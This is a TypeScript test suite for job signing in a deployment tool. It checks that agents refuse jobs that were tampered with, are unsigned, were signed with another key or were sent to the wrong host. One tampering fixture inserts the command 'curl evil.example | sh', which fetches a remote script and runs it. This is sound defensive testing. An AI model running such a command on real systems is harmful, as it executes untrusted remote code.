import { describe, expect, it } from 'vitest';
import { describeJobRefusal } from '../../src/jobs/describe-job-refusal.js';
import { signJob } from '../../src/jobs/sign-job.js';
import { verifyJob } from '../../src/jobs/verify-job.js';
import { buildInstallJob, makeJobKey, sha256Of } from './build-host-job.js';

const key = makeJobKey();
const forWeb1 = { key, hostId: 'web-1' };
/** What BullMQ does to data on its way through Redis. */
const throughRedis = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

type Data = Record<string, unknown> & { package: Record<string, unknown>; window: Record<string, unknown> };
const alterations: Array<[string, (data: Data) => void]> = [
  ['the rollout id', (data) => void (data.rolloutId = 'r-20240502')],
  ['the host id', (data) => void (data.hostId = 'web-2')],
  ['the attempt', (data) => void (data.attempt = 2)],
  ['the plan digest', (data) => void (data.planDigest = sha256Of('another plan'))],
  ['the package digest', (data) => void (data.package.sha256 = sha256Of('evil package'))],
  ['the package key', (data) => void (data.package.key = 'evil.zip')],
  ['the window end', (data) => void (data.window.end = '2024-05-02T05:00:00.000Z')],
  ['the units', (data) => void (data.units = [{ unit: 'sshd.service' }])],
  ['the config changes', (data) => void (data.configChanges = [])],
  ['the migration flag', (data) => void (data.runMigrations = false)],
  ['an added command', (data) => void (data.command = 'curl evil.example | sh')],
];

describe('signed jobs between the control plane and an agent', () => {
  it('when the control plane signs an install job, the agent for that host accepts it and reads back exactly what was signed', () => {
    const job = buildInstallJob();
    const result = verifyJob(throughRedis(signJob(job, key)), forWeb1);
    expect(result).toEqual({ ok: true, job });
  });

  it('a signed job still verifies after its keys come back from Redis in another order', () => {
    const signed = signJob(buildInstallJob(), key);
    const reordered = Object.fromEntries(Object.entries(throughRedis(signed.data)).reverse());
    expect(verifyJob({ name: signed.name, data: reordered }, forWeb1).ok).toBe(true);
  });

  it.each(alterations)(
    'when %s is changed after signing, the agent refuses the job as badly signed',
    (_what, alter) => {
      const signed = throughRedis(signJob(buildInstallJob(), key));
      alter(signed.data);
      const result = verifyJob(signed, forWeb1);
      expect(result).toMatchObject({ ok: false, refusal: { reason: 'bad-signature', jobName: 'host-install' } });
    },
  );

  it('when the job name is changed from install to rollback after signing, the job is refused as badly signed', () => {
    const signed = throughRedis(signJob(buildInstallJob(), key));
    expect(verifyJob({ ...signed, name: 'host-rollback' }, forWeb1)).toMatchObject({
      ok: false,
      refusal: { reason: 'bad-signature' },
    });
  });

  it('a job without a signature is refused as unsigned, and the words tell on-call who may queue jobs', () => {
    const result = verifyJob(buildInstallJob(), forWeb1);
    expect(result).toMatchObject({ ok: false, refusal: { reason: 'unsigned' } });
    if (result.ok) return;
    expect(describeJobRefusal(result.refusal, 'r-20240501-web-1-install-1')).toBe(
      'Job host-install (r-20240501-web-1-install-1) carries no signature, so it was not run. Only the dten control plane may queue jobs; check who else writes to this Redis.',
    );
  });

  it('a job signed with a different key is refused, and the words point at the two keys without showing either', () => {
    const otherKey = makeJobKey();
    const result = verifyJob(signJob(buildInstallJob(), otherKey), forWeb1);
    expect(result).toMatchObject({ ok: false, refusal: { reason: 'bad-signature' } });
    if (result.ok) return;
    const words = describeJobRefusal(result.refusal);
    expect(words).toContain('signed with another DTEN_JOB_KEY (the control plane and every agent must share one)');
    expect(`${words}${JSON.stringify(result)}`).not.toContain(key);
    expect(`${words}${JSON.stringify(result)}`).not.toContain(otherKey);
  });

  it('a signature that is not even the right shape is refused as badly signed', () => {
    const signed = signJob(buildInstallJob(), key);
    const result = verifyJob({ ...signed, data: { ...signed.data, signature: 'v1=abc' } }, forWeb1);
    expect(result).toMatchObject({ ok: false, refusal: { reason: 'bad-signature' } });
  });

  it('a correctly signed job for web-2 that lands on web-1 is refused, naming both hosts', () => {
    const result = verifyJob(signJob(buildInstallJob({ hostId: 'web-2' }), key), forWeb1);
    expect(result).toMatchObject({
      ok: false,
      refusal: { reason: 'wrong-host', expectedHost: 'web-1', foundHost: 'web-2' },
    });
    if (result.ok) return;
    expect(describeJobRefusal(result.refusal)).toContain('is meant for host web-2, not for host web-1');
  });

  it('a control-plane step job that lands on an agent is refused as meant for someone else', () => {
    const step = {
      name: 'rollout-step' as const,
      data: { rolloutId: 'r-20240501', planDigest: sha256Of('plan'), sequence: 3 },
    };
    expect(verifyJob(signJob(step, key), forWeb1)).toMatchObject({ ok: false, refusal: { reason: 'wrong-host' } });
    expect(verifyJob(signJob(step, key), { key })).toEqual({ ok: true, job: step });
  });
});
